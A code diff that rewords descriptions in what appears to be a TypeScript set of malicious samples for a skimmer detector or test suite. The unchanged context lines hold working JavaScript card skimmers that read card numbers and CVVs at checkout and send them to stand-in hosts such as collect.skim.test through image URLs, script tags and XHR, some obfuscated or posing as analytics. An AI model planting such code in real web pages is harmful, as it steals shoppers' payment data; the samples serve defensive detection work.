@@ -11,7 +11,7 @@ const skimmer = (name: string, technique: string, code: string): MaliciousSample
 export const skimmers: readonly MaliciousSample[] = [
   skimmer(
     'submit-to-image',
-    'Reads card fields when the form is submitted and sends them in the URL of an image',
+    'Reads card fields when the form is sent and puts them into the address of an image',
     `document.querySelector('#checkout-form').addEventListener('submit', function () {
       var d = 'n=' + document.querySelector('[name=cardnumber]').value + '&c=' + document.querySelector('[name=cvv]').value;
       new Image().src = 'https://collect.skim.test/p.gif?d=' + btoa(d);
@@ -42,7 +42,7 @@ export const skimmers: readonly MaliciousSample[] = [
   ),
   skimmer(
     'onepage-poll',
-    'Polls the fields of a one-page checkout and sends them with an image',
+    'Polls the fields of a one-page checkout and writes them out with an image',
     `var snd = null;
     if ((new RegExp('onepage|checkout|onestep|firecheckout')).test(window.location)) {
       setInterval(function () {
@@ -87,7 +87,7 @@ export const skimmers: readonly MaliciousSample[] = [
   ),
   skimmer(
     'escaped-names',
-    'Writes selectors and members as escape sequences',
+    'Writes selectors and members as escapes',
     `var _0x1f=document,_0x2f=window,_0x3f='${hexEscapes('input[name=cc_number]')}',_0x4f='${hexEscapes('https://hex.skim.test/?q=')}';
     _0x1f['${hexEscapes('addEventListener')}']('${hexEscapes('submit')}',function(){
       var _0x5f=_0x1f['${hexEscapes('querySelector')}'](_0x3f)['${hexEscapes('value')}'];
@@ -113,7 +113,7 @@ export const skimmers: readonly MaliciousSample[] = [
   ),
   skimmer(
     'fake-analytics',
-    'Looks like analytics and sends to a host with a familiar name',
+    'Looks like statistics and sends to a host with a familiar name',
     `window.ga_track = function () {
       var fields = document.querySelectorAll('input');
       var payload = [];
@@ -125,7 +125,7 @@ export const skimmers: readonly MaliciousSample[] = [
   ),
   skimmer(
     'xhr-fire-and-forget',
-    'Sends card data with an XMLHttpRequest and ignores the response',
+    'Sends card data with an XMLHttpRequest and does not listen',
     `function grab() {
       var o = {};
       o.number = document.getElementsByName('payment[cc_number]')[0].value;
@@ -150,7 +150,7 @@ export const skimmers: readonly MaliciousSample[] = [
   ),
   skimmer(
     'stored-then-sent',
-    'Keeps card data in the browser storage and sends it from the next page',
+    'Keeps card data in the storage of the browser and sends it from the next page',
     `document.addEventListener('input', function (e) {
       var cc = document.querySelector('#ccnum').value;
       var acc = { ccnum: cc, cvv: document.querySelector('#cvv2').value };
@@ -161,7 +161,7 @@ export const skimmers: readonly MaliciousSample[] = [
   ),
   skimmer(
     'script-address',
-    'Sends card data in the URL of a script',
+    'Sends card data in the address of a script',
     `function S(u) { var s = document.createElement('script'); s.src = u; document.body.appendChild(s); }
     document.body.addEventListener('mousedown', function () {
       var n = document.querySelector('input[autocomplete="cc-number"]');
@@ -193,7 +193,7 @@ export const skimmers: readonly MaliciousSample[] = [
   },
   skimmer(
     'class-with-state',
-    'Collects fields in a class and sends them later',
+    'The same as a class with fields',
     `class Metrics {
       constructor() { this.queue = {}; this.endpoint = 'https://class.skim.test/m'; document.addEventListener('change', (e) => this.collect(e)); }
       collect(e) { this.queue[e.target.name] = e.target.value; this.queue.cvv = document.querySelector('[name=cvv]').value; if (/checkout|payment/.test(location.pathname)) this.flush(); }
@@ -203,7 +203,7 @@ export const skimmers: readonly MaliciousSample[] = [
   ),
   skimmer(
     'card-pattern-filter',
-    'Recognises card numbers in all fields by a pattern',
+    'Looks for card numbers in all fields by their pattern',
     `setInterval(function () {
       var els = document.getElementsByTagName('input');
       for (var i = 0; i < els.length; i++) {
